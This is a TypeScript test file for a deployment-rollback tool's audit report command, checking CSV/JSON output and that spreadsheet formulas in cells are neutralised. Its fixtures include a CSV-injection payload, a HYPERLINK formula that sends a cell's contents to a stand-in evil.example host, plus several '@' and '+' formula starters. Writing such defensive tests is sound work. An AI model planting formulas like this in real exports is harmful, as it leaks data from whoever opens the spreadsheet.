import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, unneutralise } from '../../src/audit/csv.js';
import type { AuditRecord } from '../../src/audit/record.js';
import { REPORT_COLUMNS } from '../../src/audit/report.js';
import { runCliCommand } from '../../src/cli/run.js';
import { auditKit, rollbackHistory, type AuditKit } from '../audit/kit.js';
import { captureIo, parseCsv, runCli } from './kit.js';

const NASTY_REASON = '=HYPERLINK("http://evil.example/?"&A1, "click") , "5xx", spike\nafter 1.4.2\r\n+more';

/** What each column of a record's row must read after parsing the CSV back. */
function expectedRow(r: AuditRecord): string[] {
  const reason = typeof r.details?.reason === 'string' ? r.details.reason : '';
  const v: Record<(typeof REPORT_COLUMNS)[number], string> = {
    seq: String(r.seq),
    event_id: r.id,
    timestamp: r.ts,
    event_type: r.type,
    request_id: r.requestId ?? '',
    service: r.service ?? '',
    environment: r.environment ?? '',
    release_tag: r.releaseTag ?? '',
    revision: r.revision === undefined ? '' : String(r.revision),
    actor: r.actor ?? '',
    approver: r.approver ?? '',
    plan_hash: r.planHash ?? '',
    outcome: r.outcome ?? '',
    reason,
    details: r.details && Object.keys(r.details).length > 0 ? JSON.stringify(r.details) : '',
  };
  return REPORT_COLUMNS.map((c) => v[c]);
}

describe('backout report', () => {
  let kit: AuditKit;
  let records: AuditRecord[];

  beforeAll(async () => {
    kit = await auditKit();
    const failed = rollbackHistory('rb-2', '-1 revision, "quick"').slice(0, 4);
    for (const e of [
      ...rollbackHistory('rb-1', NASTY_REASON),
      ...failed,
      {
        ...failed[0]!,
        type: 'job.failed' as const,
        outcome: '@SUM(1+1) refused by the API',
        details: { step: 'apply' },
      },
      {
        type: 'request.created' as const,
        requestId: 'rt-1',
        service: 'payments',
        actor: '@U0X',
        releaseTag: 'v2.0.0',
        details: { reason: '\tTab first' },
      },
    ]) {
      await kit.audit.append(e);
    }
    records = await kit.audit.readStream();
  });
  afterAll(async () => {
    await kit.close();
  });

  it('writes CSV that parses back to the same values, with formulas neutralised, and a summary at the end', async () => {
    const cap = captureIo(kit.env);
    expect(await runCliCommand(['report', '--since', '1h', '--format', 'csv'], cap.io)).toBe(0);
    const text = cap.stdout();
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text.slice(1));
    const blank = rows.findIndex((r) => r.length === 1 && r[0] === '');
    expect(rows[0]).toEqual([...REPORT_COLUMNS]);
    const events = rows.slice(1, blank);
    expect(events).toHaveLength(records.length);
    events.forEach((row, i) => expect(row.map(unneutralise)).toEqual(expectedRow(records[i]!)));

    // No cell a spreadsheet would run as a formula.
    for (const cell of events.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const reasonCol = REPORT_COLUMNS.indexOf('reason');
    expect(events[0]![reasonCol]).toBe(`'${NASTY_REASON}`);
    expect(events[6]![reasonCol]).toBe(`'-1 revision, "quick"`);
    expect(events[10]![REPORT_COLUMNS.indexOf('outcome')]).toBe("'@SUM(1+1) refused by the API");
    expect(events[11]![REPORT_COLUMNS.indexOf('actor')]).toBe("'@U0X");

    const summary = Object.fromEntries(rows.slice(blank + 2).map((r) => [`${r[0]}:${r[1]}`, r[2]]));
    expect(rows[blank + 1]).toEqual(['section', 'key', 'value']);
    expect(summary['total:events']).toBe('12');
    expect(summary['count_by_type:request.created']).toBe('3');
    expect(summary['count_by_type:job.failed']).toBe('1');
    expect(summary['count_by_outcome:healthy']).toBe('1');
    expect(summary['requests:created']).toBe('3');
    expect(summary['requests:done']).toBe('2');
    const created = (id: string) =>
      Date.parse(records.find((r) => r.requestId === id && r.type === 'request.created')!.ts);
    const done = (id: string) =>
      Date.parse(
        records.find((r) => r.requestId === id && r.type.startsWith('job.') && r.type !== 'job.started')!.ts,
      );
    const median = ((done('rb-1') - created('rb-1')) / 1000 + (done('rb-2') - created('rb-2')) / 1000) / 2;
    expect(Number(summary['requests:median_request_to_done_seconds'])).toBeCloseTo(median, 2);
  });

  it('writes JSON with the same events and summary, filtered by service and window', async () => {
    const cap = captureIo(kit.env);
    expect(
      await runCliCommand(['report', '--since', '1h', '--format', 'json', '--service', 'payments'], cap.io),
    ).toBe(0);
    const report = JSON.parse(cap.stdout()) as {
      events: Record<string, unknown>[];
      summary: { events: number };
    };
    expect(report.events).toEqual([
      expect.objectContaining({
        seq: 12,
        event_type: 'request.created',
        release_tag: 'v2.0.0',
        actor: '@U0X',
        reason: '\tTab first',
        details: { reason: '\tTab first' },
      }),
    ]);
    expect(report.summary.events).toBe(1);

    const empty = captureIo(kit.env);
    expect(
      await runCliCommand(['report', '--since', '2h', '--until', '1h', '--format', 'json'], empty.io),
    ).toBe(0);
    expect((JSON.parse(empty.stdout()) as { events: unknown[] }).events).toEqual([]);
  });

  it('refuses bad options with the usage and exit code 2', async () => {
    for (const args of [
      ['report'],
      ['report', '--since', 'yesterday'],
      ['report', '--since', '1d', '--format', 'xlsx'],
      ['report', '--since', '1d', '--bogus'],
    ]) {
      const cap = captureIo(kit.env);
      expect(await runCliCommand(args, cap.io)).toBe(2);
      expect(cap.stderr()).toContain('Usage: backout report');
    }
  });

  it('runs from the real CLI entry and reports from the file alone when Redis is away', async () => {
    const { code, stdout, stderr } = await runCli(['report', '--since', '1h'], {
      ...kit.env,
      REDIS_URL: 'redis://127.0.0.1:1',
    });
    expect(code).toBe(0);
    expect(stderr).toContain('reporting from the files alone');
    expect(parseCsv(stdout.slice(1)).filter((r) => r.length === REPORT_COLUMNS.length)).toHaveLength(
      records.length + 1,
    );
  });
});

describe('CSV cells', () => {
  it('any text survives quoting and formula neutralisation, and no cell starts a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (values) => {
        const line = `${values.map(csvCell).join(',')}\r\n`;
        const [row] = parseCsv(line);
        expect(row!.map(unneutralise)).toEqual(values);
        for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
